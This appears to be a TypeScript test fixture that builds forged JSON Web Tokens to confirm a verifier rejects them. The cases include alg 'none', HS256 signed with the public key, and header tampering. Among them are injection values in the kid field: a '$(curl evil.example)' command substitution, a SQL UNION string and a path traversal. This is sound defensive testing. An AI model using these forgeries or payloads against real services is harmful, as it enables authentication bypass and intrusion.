// Attacks on the token: each is a token nobody should believe, and why someone might.
import { AUDIENCE } from '../issuer.ts';
import {
  compose,
  ecSigner,
  hmacSigner,
  type KeyServer,
  p384Key,
  part,
  rsaSigner,
  strangersKey,
  strangersRsaKey,
} from './token-forge.ts';

export type Attack = readonly [what: string, forge: (keys: KeyServer) => string];

/** Seconds. */
const now = (): number => Math.floor(Date.now() / 1_000);
const EC = { alg: 'ES256', kid: 'ec' };
const RSA = { alg: 'RS256', kid: 'rsa' };

/** What a genuine token says; marie's, unless changed. */
export const claims = ({ issuer }: KeyServer, change: object = {}): object => ({
  iss: issuer,
  aud: AUDIENCE,
  sub: 'user_marie',
  iat: now(),
  exp: now() + 600,
  ...change,
});
const genuine = (keys: KeyServer, change: object = {}, header: object = EC): string =>
  compose(header, claims(keys, change), ecSigner(keys.ec));
export const goodToken = (keys: KeyServer): string => genuine(keys);

const unsigned = () => Buffer.alloc(0);
const pem = (key: KeyServer['publicEc']): string => String(key.export({ format: 'pem', type: 'spki' }));
const der = (key: KeyServer['publicEc']): Buffer => key.export({ format: 'der', type: 'spki' });
const jwk = (key: KeyServer['publicEc']): object => key.export({ format: 'jwk' });
const withoutSignature = (token: string): string => token.slice(0, token.lastIndexOf('.'));
const parts = (token: string): [string, string, string] => {
  const [header = '', payload = '', signature = ''] = token.split('.');
  return [header, payload, signature];
};

/** With the genuine header otherwise, and the issuer's own signature. */
const withHeader = (header: object) => (keys: KeyServer) => genuine(keys, {}, { ...EC, ...header });
/** Signed by the issuer: only the claims are wrong. */
const withClaims = (change: Readonly<Record<string, unknown>>) => (keys: KeyServer) => genuine(keys, change);
/** Signed by the issuer, whose name is said otherwise. */
const withIssuer = (change: (issuer: string) => unknown) => (keys: KeyServer) =>
  genuine(keys, { iss: change(keys.issuer) });
const without = (name: string) => withClaims({ [name]: undefined });
const byStranger = (header: (key: object) => object) => (keys: KeyServer) => {
  const key = strangersKey();
  const { d: _private, ...open } = key.export({ format: 'jwk' });
  return compose({ alg: 'ES256', ...header(open) }, claims(keys), ecSigner(key));
};
const hs =
  (alg: 'HS256' | 'HS384' | 'HS512', secret: (keys: KeyServer) => string | Buffer) => (keys: KeyServer) => {
    const hash = { HS256: 'sha256', HS384: 'sha384', HS512: 'sha512' } as const;
    return compose({ alg, kid: 'ec' }, claims(keys), hmacSigner(secret(keys), hash[alg]));
  };
const zeros = (length: number) => () => Buffer.alloc(length);
const encoded = (change: (token: [string, string, string]) => string) => (keys: KeyServer) =>
  change(parts(genuine(keys)));

export const ALGORITHM_ATTACKS: readonly Attack[] = [
  ...['none', 'None', 'nOnE', 'NONE', ' none', ''].map(
    (alg): Attack => [
      `alg ${JSON.stringify(alg)}, unsigned`,
      (keys) => compose({ alg }, claims(keys), unsigned),
    ],
  ),
  [
    'alg none with a genuine signature',
    (keys) => compose({ alg: 'none', kid: 'ec' }, claims(keys), ecSigner(keys.ec)),
  ],
  ['no alg', (keys) => compose({ kid: 'ec' }, claims(keys), ecSigner(keys.ec))],
  ['alg a list', withHeader({ alg: ['ES256'] })],
  ['alg null', withHeader({ alg: null })],
  ['alg in lower case', withHeader({ alg: 'es256' })],
  ['alg __proto__', withHeader({ alg: '__proto__' })],
  ['alg of another curve', (keys) => compose({ alg: 'ES384', kid: 'ec' }, claims(keys), ecSigner(keys.ec))],
  ['HS256 with the public key as PEM', hs('HS256', ({ publicEc }) => pem(publicEc))],
  ['HS256 with the public key as PEM, trimmed', hs('HS256', ({ publicEc }) => pem(publicEc).trim())],
  ['HS256 with the public key as DER', hs('HS256', ({ publicEc }) => der(publicEc))],
  ['HS256 with the public key as JWK', hs('HS256', ({ publicEc }) => JSON.stringify(jwk(publicEc)))],
  ['HS256 with the RSA key as PEM', hs('HS256', ({ publicRsa }) => pem(publicRsa))],
  ['HS384 with the public key as PEM', hs('HS384', ({ publicEc }) => pem(publicEc))],
  ['HS512 with the public key as PEM', hs('HS512', ({ publicEc }) => pem(publicEc))],
  ['HS256 with an empty secret', hs('HS256', () => '')],
  ['HS256 with the secret "secret"', hs('HS256', () => 'secret')],
  ['HS256 with the key’s id', hs('HS256', () => 'ec')],
  [
    'RS256 named, signed with the elliptic key',
    (keys) => compose({ ...RSA, kid: 'ec' }, claims(keys), ecSigner(keys.ec)),
  ],
  [
    'ES256 named, signed with the RSA key',
    (keys) => compose({ ...EC, kid: 'rsa' }, claims(keys), rsaSigner(keys.rsa)),
  ],
  [
    'PS256 named, signed as RS256',
    (keys) => compose({ ...RSA, alg: 'PS256' }, claims(keys), rsaSigner(keys.rsa)),
  ],
  [
    'RS384 named, signed as RS256',
    (keys) => compose({ ...RSA, alg: 'RS384' }, claims(keys), rsaSigner(keys.rsa)),
  ],
];

export const KEY_ATTACKS: readonly Attack[] = [
  ['RS256 with a stranger’s key', (keys) => compose(RSA, claims(keys), rsaSigner(strangersRsaKey()))],
  ['ES256 with a stranger’s key', byStranger(() => ({ kid: 'ec' }))],
  ['ES256 with a key of another curve', (keys) => compose(EC, claims(keys), ecSigner(p384Key()))],
  ['kid unknown', byStranger(() => ({ kid: 'tomorrow' }))],
  ['kid absent', byStranger(() => ({}))],
  ['kid empty', byStranger(() => ({ kid: '' }))],
  ['kid null', byStranger(() => ({ kid: null }))],
  ['kid a path', byStranger(() => ({ kid: '../../../../dev/null' }))],
  [
    'kid a path, signed with what is there',
    (keys) => compose({ alg: 'HS256', kid: '../../../../dev/null' }, claims(keys), hmacSigner('')),
  ],
  ['kid SQL', byStranger(() => ({ kid: "x' UNION SELECT 'secret' -- " }))],
  ['kid a command', byStranger(() => ({ kid: '$(curl evil.example)' }))],
  ['kid a list', byStranger(() => ({ kid: ['ec'] }))],
  ['kid a number', byStranger(() => ({ kid: 0 }))],
  ['kid __proto__', byStranger(() => ({ kid: '__proto__' }))],
  ['kid of the other key', byStranger(() => ({ kid: 'rsa' }))],
  [
    'kid twice, the genuine one first',
    (keys) => compose('{"alg":"ES256","kid":"ec","kid":"stranger"}', claims(keys), ecSigner(strangersKey())),
  ],
  ['jwk in the header', byStranger((key) => ({ jwk: key }))],
  ['jwk in the header beside a genuine kid', byStranger((key) => ({ jwk: key, kid: 'ec' }))],
  ['jku of the attacker', byStranger(() => ({ jku: 'http://127.0.0.1:9/evil.json', kid: 'evil' }))],
  [
    'jku at the issuer’s own host',
    (keys) =>
      compose(
        { alg: 'ES256', kid: 'evil', jku: `${keys.issuer}/evil` },
        claims(keys),
        ecSigner(strangersKey()),
      ),
  ],
  [
    'x5u at the issuer’s own host',
    (keys) =>
      compose(
        { alg: 'ES256', kid: 'evil', x5u: `${keys.issuer}/evil` },
        claims(keys),
        ecSigner(strangersKey()),
      ),
  ],
  ['x5c in the header', byStranger(() => ({ kid: 'ec', x5c: ['MIIB'] }))],
  ['x5t of the attacker', byStranger(() => ({ kid: 'ec', x5t: 'dGVzdA', 'x5t#S256': 'dGVzdA' }))],
];

export const HEADER_ATTACKS: readonly Attack[] = [
  ['crit with what nobody knows', withHeader({ crit: ['exploit'], exploit: true })],
  ['crit empty', withHeader({ crit: [] })],
  ['crit that names exp', withHeader({ crit: ['exp'], exp: 1 })],
  ['crit a text', withHeader({ crit: 'b64' })],
  [
    'b64 false, claims in the clear',
    (keys) => {
      const text = JSON.stringify(claims(keys));
      const header = part({ ...EC, b64: false, crit: ['b64'] });
      return `${header}.${text}.${ecSigner(keys.ec)(`${header}.${text}`).toString('base64url')}`;
    },
  ],
  ['b64 false, claims encoded', withHeader({ b64: false, crit: ['b64'] })],
  ['header no object', (keys) => compose('[]', claims(keys), ecSigner(keys.ec))],
  ['header null', (keys) => compose('null', claims(keys), ecSigner(keys.ec))],
  ['header broken', (keys) => compose('{"alg":"ES256","kid":"ec"', claims(keys), ecSigner(keys.ec))],
  [
    'header with __proto__',
    (keys) => compose('{"__proto__":{"alg":"ES256","kid":"ec"}}', claims(keys), ecSigner(keys.ec)),
  ],
  ['a token in a token', (keys) => compose({ ...EC, cty: 'JWT' }, genuine(keys), ecSigner(keys.ec))],
  ['a JWE', () => `${part({ alg: 'dir', enc: 'A256GCM' })}..aXY.Y2lwaGVy.dGFn`],
  [
    'a JWE by password',
    () => `${part({ alg: 'PBES2-HS256+A128KW', enc: 'A128GCM', p2c: 2_000_000_000, p2s: 'c2FsdA' })}.a.b.c.d`,
  ],
  [
    'a JWS as JSON',
    (keys) => {
      const [header, payload, signature] = parts(genuine(keys));
      return JSON.stringify({ protected: header, payload, signature });
    },
  ],
];

const text = (length: number): string => 'u'.repeat(length);
const FAR_AHEAD = Date.UTC(2099) / 1_000;

export const CLAIM_ATTACKS: readonly Attack[] = [
  ['exp an hour ago', withClaims({ exp: now() - 3_600 })],
  ['exp beyond the tolerance of clocks', withClaims({ exp: now() - 30 })],
  ['exp zero', withClaims({ exp: 0 })],
  ['exp negative', withClaims({ exp: -1 })],
  ['exp absent', without('exp')],
  ['exp null', withClaims({ exp: null })],
  ['exp a text', withClaims({ exp: String(FAR_AHEAD) })],
  ['exp a date', withClaims({ exp: '2099-01-01T00:00:00Z' })],
  ['exp a list', withClaims({ exp: [FAR_AHEAD] })],
  ['exp true', withClaims({ exp: true })],
  [
    'exp NaN',
    (keys) =>
      compose(
        EC,
        `{"iss":"${keys.issuer}","aud":"${AUDIENCE}","sub":"user_marie","exp":NaN}`,
        ecSigner(keys.ec),
      ),
  ],
  [
    'exp beyond all numbers',
    (keys) =>
      compose(
        EC,
        `{"iss":"${keys.issuer}","aud":"${AUDIENCE}","sub":"user_marie","exp":1e999}`,
        ecSigner(keys.ec),
      ),
  ],
  ['exp beyond all dates', withClaims({ exp: 1e300 })],
  ['nbf in an hour', withClaims({ nbf: now() + 3_600 })],
  ['nbf a text', withClaims({ nbf: '0' })],
  ['iat in an hour', withClaims({ iat: now() + 3_600 })],
  ['iat a text', withClaims({ iat: '0' })],
  ['iss absent', without('iss')],
  ['iss another', withClaims({ iss: 'https://issuer.example' })],
  ['iss with a slash more', withIssuer((issuer) => `${issuer}/`)],
  ['iss with a prefix', withIssuer((issuer) => `https://evil.example/${issuer}`)],
  ['iss with a suffix', withIssuer((issuer) => `${issuer}.evil.example`)],
  ['iss in capitals', withIssuer((issuer) => issuer.toUpperCase())],
  ['iss a list', withIssuer((issuer) => [issuer])],
  ['aud absent', without('aud')],
  ['aud another', withClaims({ aud: 'another' })],
  ['aud others, not ours', withClaims({ aud: ['another', 'third'] })],
  ['aud empty list', withClaims({ aud: [] })],
  ['aud a prefix', withClaims({ aud: AUDIENCE.slice(0, -1) })],
  ['aud with a suffix', withClaims({ aud: `${AUDIENCE}-staging` })],
  ['aud in capitals', withClaims({ aud: AUDIENCE.toUpperCase() })],
  ['aud an object', withClaims({ aud: { [AUDIENCE]: true } })],
  ['sub absent', without('sub')],
  ['sub empty', withClaims({ sub: '' })],
  ['sub null', withClaims({ sub: null })],
  ['sub a number', withClaims({ sub: 42 })],
  ['sub true', withClaims({ sub: true })],
  ['sub a list', withClaims({ sub: ['user_marie'] })],
  ['sub an object', withClaims({ sub: { toString: 'user_marie' } })],
  ['sub of 129 characters', withClaims({ sub: text(129) })],
  ['sub of 5,000 characters', withClaims({ sub: text(5_000) })],
  ['sub with NUL', withClaims({ sub: 'user_marie\u0000' })],
  ['sub with a line end', withClaims({ sub: 'user_marie\n' })],
  ['sub with spaces around', withClaims({ sub: ' user_marie ' })],
  ['sub with a letter that looks alike', withClaims({ sub: 'user_mаrie' })],
  [
    'sub with half a character',
    (keys) =>
      compose(
        EC,
        `{"iss":"${keys.issuer}","aud":"${AUDIENCE}","exp":${now() + 600},"sub":"\\ud800"}`,
        ecSigner(keys.ec),
      ),
  ],
  [
    'sub twice, the second empty',
    (keys) =>
      compose(
        EC,
        `{"iss":"${keys.issuer}","aud":"${AUDIENCE}","exp":${now() + 600},"sub":"user_marie","sub":""}`,
        ecSigner(keys.ec),
      ),
  ],
  ['claims no object', (keys) => compose(EC, '["user_marie"]', ecSigner(keys.ec))],
  ['claims null', (keys) => compose(EC, 'null', ecSigner(keys.ec))],
  ['claims empty', (keys) => compose(EC, '{}', ecSigner(keys.ec))],
  [
    'claims inherited',
    (keys) => compose(EC, `{"__proto__":${JSON.stringify(claims(keys))}}`, ecSigner(keys.ec)),
  ],
];

export const SIGNATURE_ATTACKS: readonly Attack[] = [
  ['signature stripped', encoded(([header, payload]) => `${header}.${payload}.`)],
  ['signature and its dot stripped', encoded(([header, payload]) => `${header}.${payload}`)],
  ['signature truncated', encoded((token) => token.join('.').slice(0, -4))],
  ['signature doubled', encoded((token) => `${token.join('.')}${token[2]}`)],
  [
    'signature of another token',
    (keys) => `${withoutSignature(genuine(keys, { sub: 'user_operator' }))}.${parts(genuine(keys))[2]}`,
  ],
  ['r and s zero', (keys) => compose(EC, claims(keys), zeros(64))],
  [
    'r and s zero, empty DER',
    (keys) => compose(EC, claims(keys), () => Buffer.from([0x30, 0x06, 2, 1, 0, 2, 1, 0])),
  ],
  [
    'r and s the order of the curve',
    (keys) =>
      compose(EC, claims(keys), () => {
        const order = Buffer.from('ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551', 'hex');
        return Buffer.concat([order, order]);
      }),
  ],
  ['signature as DER', (keys) => compose(EC, claims(keys), ecSigner(keys.ec, 'der'))],
  ['RSA signature of zeros', (keys) => compose(RSA, claims(keys), zeros(256))],
  [
    'signature with a byte flipped',
    (keys) =>
      compose(EC, claims(keys), (content) => {
        const signature = ecSigner(keys.ec)(content);
        signature[10] = (signature[10] ?? 0) ^ 1;
        return signature;
      }),
  ],
  [
    'role added after signing',
    encoded(([header, payload, signature]) => {
      const changed = Buffer.from(payload, 'base64url').toString().replace('{', '{"role":"operator",');
      return [header, part(changed), signature].join('.');
    }),
  ],
  [
    'sub changed after signing',
    encoded(([header, payload, signature]) => {
      const changed = Buffer.from(payload, 'base64url').toString().replace('marie', 'admin');
      return [header, part(changed), signature].join('.');
    }),
  ],
  [
    'claims encoded anew after signing',
    encoded(([header, payload, signature]) =>
      [header, part(` ${Buffer.from(payload, 'base64url').toString()}`), signature].join('.'),
    ),
  ],
  [
    'header changed after signing',
    encoded(([, payload, signature]) => [part({ ...EC, typ: 'JWT' }), payload, signature].join('.')),
  ],
  ['a part more', encoded((token) => `${token.join('.')}.${token[2]}`)],
  ['an empty part before', encoded((token) => `.${token.join('.')}`)],
  [
    'parts in another order',
    encoded(([header, payload, signature]) => [payload, header, signature].join('.')),
  ],
  ['only dots', () => '..'],
  ['nine thousand dots', () => '.'.repeat(9_000)],
  ['oversized', (keys) => genuine(keys, { aud: 'another', ballast: 'x'.repeat(8_000) })],
];
